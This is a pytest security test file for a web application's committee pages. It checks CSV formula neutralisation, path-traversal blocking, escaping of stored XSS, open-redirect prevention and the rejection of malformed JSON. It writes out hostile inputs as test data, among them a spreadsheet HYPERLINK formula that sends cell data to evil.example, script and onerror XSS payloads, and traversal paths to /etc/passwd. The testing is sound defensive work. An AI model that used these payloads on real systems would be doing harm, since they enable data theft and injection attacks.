"""Formula injection in CSV exports, the documented form of subject keys, security headers,
path traversal and stored XSS on the committee pages (issue 11, items 3 and 6)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from serving.csv_safe import FORMULA_PREFIXES, safe_cell
from serving.warnings_store import warnings_table
from tests.security.security_helpers import login

AS_OF = "2024-12-21"  # the synthetic world's outbreak is under way (tests/policy)
# (no "/" in them: a subject key part never holds one)
HOSTILE_CELLS = ['=HYPERLINK("evil.example?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                 "\t=1", "\r=1"]  # fmt: skip
XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
XSS_KEY = "<img src=x onerror=alert(1)><svg onload=alert(2)>"  # a key part holds no "/"


def h(keys, role="committee"):
    return {"X-API-Key": keys[role]}


def _proposed(client, keys):
    r = client.post("/v1/warnings/propose", json={"as_of": AS_OF}, headers=h(keys))
    assert r.status_code == 200, r.text
    return r.json()


def _poison(app, warning_id: str, subject_key: str, title: str) -> None:
    """What ingested data may carry (ids are free text in the contract): stored as is."""
    with app.state.engine.begin() as conn:
        conn.execute(warnings_table.update().where(warnings_table.c.id == warning_id)
                     .values(subject_key=subject_key, title=title, subject_label=subject_key))  # fmt: skip


def test_safe_cell_neutralises_every_formula_start():
    for text in HOSTILE_CELLS:
        assert safe_cell(text) == "'" + text
    assert {p for p in FORMULA_PREFIXES} == {"=", "+", "-", "@", "\t", "\r"}
    for fine in ("E001", "0303/VN", "中文", "", 3, -2.5, None):
        assert safe_cell(fine) == fine  # numbers stay numbers


def test_csv_download_and_cli_export_neutralise_formulas(pages, tmp_path, monkeypatch):
    app, client, keys = pages
    made = _proposed(client, keys)
    for w, text in zip(made, HOSTILE_CELLS, strict=False):
        _poison(app, w["id"], text, text)
        r = client.post(f"/v1/warnings/{w['id']}/reject", json={"reason": text}, headers=h(keys))
        assert r.status_code == 200, r.text  # decided: it appears in the committee's record
    r = client.get("/v1/warnings/export", params={"format": "csv"}, headers=h(keys))
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    downloads = [r.text]
    login(client, keys["committee"])  # the committee's record download
    r = client.get("/committee/warnings/record.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    record = list(csv.DictReader(io.StringIO(r.text)))
    assert record and not [v for row in record for v in row.values()
                           if isinstance(v, str) and v.startswith(FORMULA_PREFIXES)]  # fmt: skip
    # the CLI writes through the same helper
    from guomen.cli import app as cli
    from guomen.settings import get_settings

    monkeypatch.setenv("GUOMEN_DATABASE_URL", app.state.settings.database_url)
    get_settings.cache_clear()
    out = tmp_path / "w.csv"
    result = CliRunner().invoke(cli, ["warnings", "export", "--format", "csv", "--out", str(out)])
    get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    downloads.append(out.read_text(encoding="utf-8"))
    for text in downloads:
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) == len(made)
        cells = [v for row in rows for v in row.values() if isinstance(v, str)]
        assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], cells
        keys_out = {row["subject_key"] for row in rows}
        assert {"'" + t for t in HOSTILE_CELLS[: len(made)]} <= keys_out


@pytest.mark.parametrize(
    ("kind", "key", "ok"),
    [
        ("enterprise", "E001", True),
        ("enterprise", "企业-001", True),
        ("enterprise", '=HYPERLINK("http://evil","x")', False),
        ("enterprise", "-1", False),
        ("enterprise", "E001/../x", False),
        ("enterprise", "<b>E</b>", False),
        ("overseas_party", "VN-SUP-19", True),
        ("overseas_party", "@x", False),
        ("hs4", "0303", True),
        ("hs4", "303", False),
        ("hs4", "03031", False),
        ("origin", "VN", True),
        ("origin", "vn", False),
        ("hs4_origin", "0303/VN", True),
        ("hs4_origin", "0303/VN/x", False),
        ("hs4_origin", "0303", False),
    ],
)
def test_manual_warnings_accept_only_documented_subject_keys(pages, kind, key, ok):
    _, client, keys = pages
    body = {"subject_kind": kind, "subject_key": key, "as_of": AS_OF, "reason": "by hand",
            "level": 1}  # fmt: skip
    r = client.post("/v1/warnings/manual", json=body, headers=h(keys))
    if ok:
        assert r.status_code in (201, 409), r.text
    else:
        assert r.status_code == 422, r.text
        [err] = r.json()["detail"]
        assert err["loc"] == ["body", "subject_key"] and kind in err["msg"]


def test_pages_send_the_security_headers(pages):
    _, client, keys = pages
    for url in ("/committee/login", "/committee/static/committee.css"):
        r = client.get(url)
        assert r.status_code == 200
        csp = r.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
        assert "default-src 'none'" in csp and "unsafe-inline" not in csp.split("style-src-attr")[0]
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "no-referrer"
    login(client, keys["committee"])
    r = client.get("/committee/warnings")
    assert r.status_code == 200 and "content-security-policy" in r.headers
    # no inline script anywhere the pages render (the CSP would block it)
    assert "<script>" not in r.text and " onclick=" not in r.text


@pytest.mark.parametrize(
    "url",
    ["/committee/static/%00", "/committee/static/..%2Fapp.py", "/committee/static/..%2F..%2Fguomen%2Fsettings.py",
     "/committee/static/%2Fetc%2Fpasswd", "/committee/static/%5C..%5Capp.py",
     "/committee/model/plots/..%2F..%2Fmetrics.json", "/committee/static/committee.css%00.txt"],
)  # fmt: skip
def test_path_traversal_is_a_404(pages, url):
    _, client, keys = pages
    login(client, keys["committee"])
    r = client.get(url, follow_redirects=False)
    assert r.status_code == 404, (url, r.status_code, r.text[:200])


def test_stored_xss_is_escaped_on_every_page_that_shows_it(pages):
    app, client, keys = pages
    made = _proposed(client, keys)
    w = made[0]
    # every free-text field a person can type reaches the pages escaped
    manual = {"subject_kind": "origin", "subject_key": "TH", "as_of": AS_OF, "reason": XSS,
              "level": 1}  # fmt: skip
    r = client.post("/v1/warnings/manual", json=manual, headers=h(keys))
    assert r.status_code == 201, r.text
    typed = r.json()
    r = client.post(f"/v1/warnings/{w['id']}/reject", json={"reason": XSS}, headers=h(keys))
    assert r.status_code == 200, r.text
    _poison(app, typed["id"], XSS_KEY, XSS)  # and data-derived ids/labels carrying markup
    login(client, keys["committee"])
    for url in ("/committee/warnings", f"/committee/warnings/{w['id']}",
                f"/committee/warnings/{typed['id']}", "/committee/warnings?status=rejected"):  # fmt: skip
        page = client.get(url)
        assert page.status_code == 200, (url, page.text[:300])
        assert "<script>alert" not in page.text and "<img src=x" not in page.text, url
        assert "<svg onload" not in page.text, url
    detail = client.get(f"/committee/warnings/{w['id']}").text
    assert "&lt;script&gt;" in detail or "&#34;" in detail or "&lt;" in detail
    # declaration and enterprise pages echo their path ids escaped (404 pages included)
    for url in (f"/committee/declarations/{XSS}", f"/committee/enterprises/{XSS}"):
        page = client.get(url)
        assert page.status_code == 404 and "<script>alert" not in page.text


def test_login_next_is_never_an_open_redirect(pages):
    _, client, keys = pages
    for target in ("https://evil.example/", "//evil.example/x", "/committee/..//evil.example",
                   "/\\evil.example", "/committee/\\\\evil.example", "javascript:alert(1)",
                   "/committee//evil.example", "/committee/\r\nLocation: http://evil"):  # fmt: skip
        client.cookies.clear()
        r = login(client, keys["committee"], target)
        assert r.status_code == 303
        location = r.headers["location"]
        assert location == "/committee" or location.startswith("/committee/"), (target, location)
        assert "//" not in location, (target, location)
        assert "\n" not in location and "\\" not in location
    client.cookies.clear()
    r = client.get("/committee/login", params={"next": "https://evil.example/"})
    assert "evil.example" not in r.text


def test_hostile_json_on_the_warnings_api_is_a_422(pages):
    _, client, keys = pages
    for raw in ("NaN", "Infinity", '"\\ud800"', '"\\u0000"'):
        body = '{"as_of": ' + raw + "}"
        r = client.post("/v1/warnings/propose", content=body,
                        headers={**h(keys), "content-type": "application/json"})  # fmt: skip
        assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "as_of"], r.text
    json.loads(r.text)
